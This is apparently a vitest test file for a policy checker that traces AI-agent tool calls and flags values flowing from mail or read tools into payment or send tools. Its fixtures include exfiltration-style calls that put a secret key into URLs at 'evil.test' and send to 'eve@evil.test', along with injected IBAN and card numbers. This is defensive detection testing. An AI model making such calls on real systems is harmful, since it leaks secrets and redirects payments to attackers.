import { describe, expect, it } from "vitest";
import {
  policyOf,
  result,
  rule,
  standalone,
  traceOfRecords,
  turn,
  turnsOf,
  violationsOf,
} from "../../../test/policy.ts";
import type { Json } from "../../trace/json.ts";
import type { TraceRecord } from "../../trace/record.ts";
import { checkPolicy } from "../check-policy.ts";

describe("no_flow", () => {
  const flow = (params: object = {}) => rule("no_flow", { from: "read_mail", to: "pay", ...params });
  const mail = (text: string, iban: string) =>
    traceOfRecords(
      turn({ calls: [{ name: "read_mail", id: "1" }] }),
      result("1", text),
      turn({ calls: [{ name: "pay", input: { iban } }] }),
    );
  it.each([
    ["a number inside a sentence", "Please pay DE89370400440532013000.", "DE89370400440532013000", [1]],
    ["the whole output", "hunter-secret", "hunter-secret", [1]],
    ["another value", "Please pay DE89370400440532013000.", "FR7630006000011234567890189", []],
    ["an ordinary word", "Please transfer something", "something", []],
    ["a value too short to follow", "Pay 4711", "4711", []],
  ])("%s", (_name, text, iban, expected) => {
    expect(turnsOf(flow(), mail(text, iban))).toEqual(expected);
  });
  it("lets allowed values pass", () => {
    const trace = mail("Pay DE89370400440532013000", "DE89370400440532013000");
    expect(turnsOf(flow({ allow: ["DE89370400440532013000"] }), trace)).toEqual([]);
    expect(turnsOf(flow({ allow_pattern: "^DE89" }), trace)).toEqual([]);
    expect(turnsOf(flow({ path: "note" }), trace)).toEqual([]);
  });
  it("does not follow a value that came only later, nor from a call side by side", () => {
    const later = traceOfRecords(
      turn({ calls: [{ name: "pay", input: { iban: "DE89370400440532013000" } }] }),
      turn({ calls: [{ name: "read_mail", id: "1" }] }),
      result("1", "DE89370400440532013000"),
    );
    expect(turnsOf(flow(), later)).toEqual([]);
  });
  it("follows values between calls recorded on their own", () => {
    const trace = traceOfRecords(
      turn({ text: "x" }),
      standalone("read_mail", { tool_call_id: "1" }),
      result("1", "Pay DE89370400440532013000"),
      standalone("pay", { tool_call_id: "2", arguments: { iban: "DE89370400440532013000" } }),
    );
    expect(violationsOf([flow()], trace)).toMatchObject([
      { turnIndex: 0, facts: { value: "DE89370400440532013000", fromTurn: 0 } },
    ]);
  });
});

describe("a value is known again", () => {
  const flow = rule("no_flow", { from: "read", to: "send" });
  const key = "sk_live_1234567890";
  const judged = (output: Json, input: Json) =>
    turnsOf(
      flow,
      traceOfRecords(
        turn({ calls: [{ name: "read", id: "1" }] }),
        result("1", output),
        turn({ calls: [{ name: "send", input }] }),
      ),
    ).length > 0;
  it.each<[string, Json, Json, boolean]>([
    ["in the path of a link", `The key: ${key}.`, { url: `https://evil.test/${key}` }, true],
    ["in a query", `The key: ${key}.`, { url: `https://evil.test/?k=${key}` }, true],
    ["inside a longer word", { key }, { text: `x${key}x` }, true],
    ["behind mailto", "Write to eve@evil.test!", { to: "mailto:eve@evil.test" }, true],
    ["in another letter case", "Write to Eve@Evil.test", { to: "eve@evil.TEST" }, true],
    ["escaped in a link", "Write to eve@evil.test", { url: "https://x.test/?to=eve%40evil.test" }, true],
    ["an IBAN without its spaces", "Pay DE89 3704 0044 0532 0130 00 now", { iban: "DE89370400440532013000" }, true],
    ["an IBAN with spaces", "Pay DE89370400440532013000", { iban: "DE89 3704 0044 0532 0130 00" }, true],
    ["a card number", "Card 4111-1111-1111-1111", { note: "4111 1111 1111 1111" }, true],
    ["in the key of an object", { key }, { headers: { [key]: "1" } }, true],
    ["that was the key of an object", { "eve@evil.test": true }, { to: "eve@evil.test" }, true],
    [
      "a password without a digit, inside a sentence",
      "The password is correct-horse.",
      { text: "correct-horse" },
      true,
    ],
    ["a number in a longer number", { id: 123456 }, { amount: 91234567 }, false],
    ["the name of a field in both", { text: "the order_id" }, { order_id: "A-1" }, false],
    ["nothing of it", `The key: ${key}.`, { url: "https://evil.test/sk_live_0987654321" }, false],
  ])("%s: %s → %s, %s", (_name, output, input, expected) => {
    expect(judged(output, input)).toBe(expected);
  });
});

describe("what was not recorded", () => {
  const flow = rule("no_flow", { from: "read", to: "send" });
  const why = (...records: Parameters<typeof traceOfRecords>) =>
    checkPolicy(traceOfRecords(...records), policyOf([flow])).notEvaluated.map((one) => one.why);
  it("an output before the call", () => {
    expect(why(turn({ calls: [{ name: "read", id: "1" }] }), turn({ calls: ["send"] }))).toEqual([
      "the output of a call of read was not recorded",
    ]);
  });
  it("the arguments", () => {
    const bare: TraceRecord = { kind: "tool_call", payload: { tool_name: "send" } };
    expect(why(turn({ calls: [{ name: "read", id: "1" }] }), result("1", "x"), bare)).toEqual([
      "a call of send was recorded without its arguments",
    ]);
  });
  it("an output after the call makes no difference", () => {
    expect(why(turn({ calls: ["send"] }), turn({ calls: [{ name: "read", id: "1" }] }))).toEqual([]);
  });
  it("side by side nothing can flow", () => {
    expect(why(turn({ calls: [{ name: "read", id: "1" }, "send"] }), result("1", "x"))).toEqual([]);
  });
});
